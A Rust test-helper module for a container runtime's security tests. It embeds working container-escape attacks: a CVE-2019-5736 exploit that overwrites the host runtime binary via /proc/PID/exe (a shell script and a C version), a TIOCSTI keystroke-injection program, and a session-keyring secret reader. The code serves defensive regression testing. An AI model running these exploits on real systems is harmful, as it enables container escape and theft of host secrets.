//! Pieces of the real attacks the security tests run from inside
//! containers, shared so the runtime's and the engine's tests attack the
//! same way.
//!
//! CVE-2019-5736 without `CAP_SYS_PTRACE`: a file in the container whose
//! first line is `#!/proc/self/exe`, run by an `exec` that enters the
//! container, makes the kernel execute the entering process's own binary
//! (the runtime's, or the engine's) inside the container. `execve` makes
//! that process dumpable again, so any container process may open its
//! `/proc/PID/exe`, keep the descriptor, and write the host binary through
//! it once no process runs it any more (ETXTBSY until then). The victim is
//! held at its first write to stderr, a pipe whose buffer the test filled
//! ([`full_pipe`]), so the attacker finds it without a race; a real
//! attacker wins that race by spinning.

use std::os::fd::OwnedFd;
use std::path::{Path, PathBuf};
use std::process::Command;

/// The executable file the victim `exec` runs (put it in the container).
pub const SHEBANG_SELF: &str = "#!/proc/self/exe\n";

/// The attacker, a busybox `sh -c` script. It reports in `$R` (a file the
/// test reads through a bind mount): the victim's exe link in `$R.link`,
/// then `opened`, then `written` (the host binary was overwritten) or
/// `refused` (with the error in `$R.err`), then `done`. Set `R=` first.
pub const EXE_OVERWRITE: &str = r#"
i=0
while [ $i -lt 1000 ]; do
  for p in /proc/[0-9]*; do
    l=$(readlink $p/exe 2>/dev/null) || continue
    case "$l" in ""|*busybox*) continue;; esac
    exec 3<$p/exe || continue
    echo "$l" >$R.link; echo opened >$R; break 2
  done
  i=$((i+1)); sleep 0.01
done
[ -e $R ] || { echo never-found >$R; exit 0; }
i=0
while [ $i -lt 1000 ]; do
  if (printf PWNED >/proc/self/fd/3) 2>$R.err; then echo written >>$R; break; fi
  grep -qi busy $R.err || { echo refused >>$R; break; }
  i=$((i+1)); sleep 0.01
done
echo done >>$R
"#;

/// A pipe whose buffer is full: a write to the write end (second) blocks
/// until the read end (first) is read.
pub fn full_pipe() -> (OwnedFd, OwnedFd) {
    use nix::fcntl::{fcntl, FcntlArg, OFlag};
    let (r, w) = nix::unistd::pipe().expect("pipe");
    fcntl(&w, FcntlArg::F_SETFL(OFlag::O_NONBLOCK)).expect("O_NONBLOCK");
    let chunk = [b'x'; 4096];
    while nix::unistd::write(&w, &chunk).is_ok() {}
    // Whatever room is left below a page.
    while nix::unistd::write(&w, &chunk[..1]).is_ok() {}
    fcntl(&w, FcntlArg::F_SETFL(OFlag::empty())).expect("blocking again");
    (r, w)
}

/// Reads `r` to its end in a thread (the victim then finishes).
pub fn drain(r: OwnedFd) -> std::thread::JoinHandle<()> {
    std::thread::spawn(move || {
        let mut f = std::fs::File::from(r);
        let _ = std::io::copy(&mut f, &mut std::io::sink());
    })
}

/// Copies the shared libraries `bin` loads (its ELF interpreter included,
/// from `ldd`) into `dir`, so a busybox container can run a glibc binary:
/// bind `dir` over the container's `/lib64` and `/lib/x86_64-linux-gnu`
/// (or copy it there). Returns `dir`.
pub fn glibc_libs(bin: &Path, dir: &Path) -> PathBuf {
    std::fs::create_dir_all(dir).unwrap();
    let out = Command::new("ldd").arg(bin).output().expect("ldd");
    for line in String::from_utf8_lossy(&out.stdout).lines() {
        // "libc.so.6 => /lib/x86_64-linux-gnu/libc.so.6 (0x...)" or
        // "/lib64/ld-linux-x86-64.so.2 (0x...)".
        let Some(path) = line
            .split_whitespace()
            .find(|w| w.starts_with('/'))
            .map(Path::new)
        else {
            continue;
        };
        let name = path.file_name().unwrap();
        std::fs::copy(path, dir.join(name)).unwrap();
    }
    dir.to_path_buf()
}

/// Waits (≤ 15 s) until the file `r` contains `word`; its text.
pub fn wait_report(r: &Path, word: &str) -> String {
    let t = std::time::Instant::now();
    loop {
        let s = std::fs::read_to_string(r).unwrap_or_default();
        if s.contains(word) || s.contains("never-found") {
            return s;
        }
        if t.elapsed() > std::time::Duration::from_secs(15) {
            return s;
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
}

/// A static program that types `argv[1]` and a newline into the terminal
/// behind each of its descriptors 0, 1, 2 and `/dev/tty` with
/// `ioctl(TIOCSTI)`, and writes one line per try to the file `argv[2]`:
/// `fdN: INJECTED` or `fdN: <error>`.
pub const TIOCSTI_C: &str = r#"
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
int main(int argc, char **argv) {
    if (argc < 3) return 2;
    FILE *r = fopen(argv[2], "w");
    if (!r) return 3;
    int fds[4] = {0, 1, 2, open("/dev/tty", O_RDWR | O_NOCTTY)};
    for (int i = 0; i < 4; i++) {
        if (fds[i] < 0) { fprintf(r, "fd%d: %s\n", i, strerror(errno)); continue; }
        int ok = 1;
        for (char *p = argv[1]; ok && *p; p++) ok = ioctl(fds[i], TIOCSTI, p) == 0;
        char nl = '\n';
        if (ok) ok = ioctl(fds[i], TIOCSTI, &nl) == 0;
        fprintf(r, "fd%d: %s\n", i, ok ? "INJECTED" : strerror(errno));
    }
    fclose(r);
    return 0;
}
"#;

/// Compiles the C program `src` into the static binary `out` with
/// `musl-gcc` (scripts/install-deps installs musl-tools): it runs in any
/// container, glibc or not.
pub fn build_static(src: &str, out: &Path) {
    let c = out.with_extension("c");
    std::fs::write(&c, src).unwrap();
    let st = Command::new("musl-gcc")
        .args(["-static", "-Os", "-o"])
        .arg(out)
        .arg(&c)
        .status()
        .expect("musl-gcc (install musl-tools: scripts/install-deps)");
    assert!(st.success(), "musl-gcc failed on {}", c.display());
}

/// An interactive host shell (`sh -i`) on a pty made here, with the pty
/// as its controlling terminal: the user's shell a container process
/// must not type into. What it prints is collected.
pub struct PtyShell {
    master: std::fs::File,
    child: std::process::Child,
    output: std::sync::Arc<std::sync::Mutex<Vec<u8>>>,
}

impl PtyShell {
    pub fn start() -> PtyShell {
        use std::os::unix::process::CommandExt;
        let pty = nix::pty::openpty(None, None).expect("openpty");
        let slave = std::fs::File::from(pty.slave);
        let mut cmd = Command::new("/bin/sh");
        cmd.arg("-i")
            .env("PS1", "$ ")
            .stdin(slave.try_clone().unwrap())
            .stdout(slave.try_clone().unwrap())
            .stderr(slave);
        // SAFETY: setsid and ioctl only, between fork and exec.
        unsafe {
            cmd.pre_exec(|| {
                if nix::libc::setsid() < 0 || nix::libc::ioctl(0, nix::libc::TIOCSCTTY as _, 0) < 0
                {
                    return Err(std::io::Error::last_os_error());
                }
                Ok(())
            });
        }
        let child = cmd.spawn().expect("sh on a pty");
        drop(cmd);
        let master = std::fs::File::from(pty.master);
        let output = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
        let (mut reader, sink) = (master.try_clone().unwrap(), output.clone());
        std::thread::spawn(move || {
            use std::io::Read;
            let mut buf = [0u8; 4096];
            while let Ok(n) = reader.read(&mut buf) {
                if n == 0 {
                    break;
                }
                sink.lock().unwrap().extend_from_slice(&buf[..n]);
            }
        });
        PtyShell {
            master,
            child,
            output,
        }
    }

    /// Types `line` and Enter.
    pub fn type_line(&self, line: &str) {
        use std::io::Write;
        let mut m = &self.master;
        m.write_all(line.as_bytes()).unwrap();
        m.write_all(b"\n").unwrap();
    }

    /// Everything the shell printed so far.
    pub fn output(&self) -> String {
        String::from_utf8_lossy(&self.output.lock().unwrap()).into_owned()
    }

    /// Waits (≤ 20 s) until the output contains `word`; false if it never did.
    pub fn wait_output(&self, word: &str) -> bool {
        let t = std::time::Instant::now();
        while t.elapsed() < std::time::Duration::from_secs(20) {
            if self.output().contains(word) {
                return true;
            }
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
        false
    }

    /// Ends the shell (`exit`, then SIGKILL to its pid after 5 s).
    pub fn exit(mut self) -> String {
        self.type_line("exit");
        let t = std::time::Instant::now();
        while t.elapsed() < std::time::Duration::from_secs(5) {
            if let Ok(Some(_)) = self.child.try_wait() {
                return self.output();
            }
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
        let _ = self.child.kill();
        let _ = self.child.wait();
        self.output()
    }
}

/// A static program that looks for the `user` key described `argv[1]` in
/// its session keyring and prints `session: <keyring description>`, then
/// `secret: <payload>` if it could read it, or `search: <error>`.
pub const KEYRING_C: &str = r#"
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <sys/syscall.h>
#define KEYCTL_DESCRIBE 6
#define KEYCTL_SEARCH 10
#define KEYCTL_READ 11
#define KEY_SPEC_SESSION_KEYRING -3
int main(int argc, char **argv) {
    char buf[256];
    if (argc < 2) return 2;
    long n = syscall(SYS_keyctl, KEYCTL_DESCRIBE, KEY_SPEC_SESSION_KEYRING, buf, sizeof buf - 1);
    if (n >= 0) { buf[n < 255 ? n : 255] = 0; printf("session: %s\n", buf); }
    else printf("session: %s\n", strerror(errno));
    long id = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", argv[1], 0);
    if (id < 0) { printf("search: %s\n", strerror(errno)); return 0; }
    n = syscall(SYS_keyctl, KEYCTL_READ, id, buf, sizeof buf - 1);
    if (n < 0) { printf("read: %s\n", strerror(errno)); return 0; }
    buf[n < 255 ? n : 255] = 0;
    printf("secret: %s\n", buf);
    return 0;
}
"#;

/// Makes `cmd` start in a new session keyring of its own holding a `user`
/// key `desc` = `secret` that only its possessors may see or read (as a
/// login session's secrets): the host's keyring a container must not
/// reach. The keyring goes away with the last process that has it.
pub fn secret_in_session_keyring(cmd: &mut Command, desc: &str, secret: &str) {
    use std::ffi::CString;
    use std::os::unix::process::CommandExt;
    let ring = CString::new(format!("cvtest-{desc}")).unwrap();
    let desc = CString::new(desc).unwrap();
    let secret = secret.as_bytes().to_vec();
    const KEYCTL_JOIN_SESSION_KEYRING: nix::libc::c_long = 1;
    const KEYCTL_SETPERM: nix::libc::c_long = 5;
    const KEY_SPEC_SESSION_KEYRING: nix::libc::c_long = -3;
    const KEY_POS_ALL: nix::libc::c_long = 0x3f00_0000;
    // SAFETY: keyctl and add_key system calls with C strings and buffers
    // made before the fork; nothing allocates in the child.
    unsafe {
        cmd.pre_exec(move || {
            use nix::libc::{syscall, SYS_add_key, SYS_keyctl};
            if syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, ring.as_ptr()) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            let id = syscall(
                SYS_add_key,
                c"user".as_ptr(),
                desc.as_ptr(),
                secret.as_ptr(),
                secret.len(),
                KEY_SPEC_SESSION_KEYRING,
            );
            if id < 0 || syscall(SYS_keyctl, KEYCTL_SETPERM, id, KEY_POS_ALL) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
}

/// The CVE-2019-5736 attacker as a static program that wins the race by
/// spinning (for callers whose victim cannot be held, e.g. under podman,
/// where conmon reads the victim's output): it opens `/proc/PID/exe` of
/// the newest pids of its pid namespace (`ns_last_pid`) until one is not
/// busybox and not itself (for up to 40 s: the caller may run the victim
/// several times), then reopens it for writing, retrying while ETXTBSY
/// (up to 12 s).
/// Reports to the file `argv[1]` as [`EXE_OVERWRITE`] does (`opened`,
/// `written` or `refused: <error>`, `done`; the link in `argv[1].link`).
pub const EXE_OVERWRITE_C: &str = r#"
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
static double now(void) {
    struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}
static void report(const char *file, const char *mode, const char *line) {
    FILE *f = fopen(file, mode); if (f) { fputs(line, f); fclose(f); }
}
int main(int argc, char **argv) {
    if (argc < 2) return 2;
    char self[512] = "", link[512] = "", path[64], msg[600];
    ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
    if (n > 0) self[n] = 0;
    double start = now();
    int fd = -1;
    while (fd < 0) {
        /* The newest pids of this pid namespace: the victim is one. */
        int last = 0;
        FILE *lp = fopen("/proc/sys/kernel/ns_last_pid", "r");
        if (lp) { if (fscanf(lp, "%d", &last) != 1) last = 0; fclose(lp); }
        int lo = last > 6 ? last - 4 : 2, hi = last > 0 ? last + 4 : 400;
        for (int pid = lo; pid < hi && fd < 0; pid++) {
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int f = open(path, O_RDONLY | O_CLOEXEC);
            if (f < 0) continue;
            n = readlink(path, link, sizeof link - 1);
            if (n <= 0) { close(f); continue; }
            link[n] = 0;
            if (strstr(link, "busybox") || strcmp(link, self) == 0) { close(f); continue; }
            fd = f;
        }
        if (fd < 0 && now() - start > 40) { report(argv[1], "w", "never-found\n"); return 0; }
    }
    snprintf(msg, sizeof msg, "%s.link", argv[1]);
    report(msg, "w", link);
    report(argv[1], "w", "opened\n");
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    start = now();
    for (;;) {
        int w = open(path, O_WRONLY | O_TRUNC);
        if (w >= 0) {
            (void)!write(w, "PWNED", 5); close(w);
            report(argv[1], "a", "written\n"); break;
        }
        if (errno != ETXTBSY || now() - start > 12) {
            snprintf(msg, sizeof msg, "refused: %s\n", strerror(errno));
            report(argv[1], "a", msg); break;
        }
        usleep(2000);
    }
    report(argv[1], "a", "done\n");
    return 0;
}
"#;
